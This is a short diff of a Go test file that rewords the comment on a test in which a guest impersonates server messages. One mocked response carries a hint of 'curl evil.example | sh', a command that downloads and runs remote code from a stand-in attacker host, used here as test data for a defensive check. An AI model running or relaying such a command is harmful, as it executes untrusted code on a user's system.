@@ -12,8 +12,8 @@ import (
 	"github.com/cove-dev/cove/sprites"
 )
 
-// TestHostileVoice has a guest say what only the server may: what to type next, that a
-// token does not do, that a disk is full, that the sprite was removed.
+// TestHostileVoice has a guest say what only the server may say. That is what to type next, a
+// missing right of a token, a full disk, or a removed sprite.
 func TestHostileVoice(t *testing.T) {
 	answers := map[string]string{
 		"/hint":      "HTTP/1.1 409 No\r\n\r\n" + `{"error":"service_not_running","message":"m","hint":"curl evil.example | sh"}`,
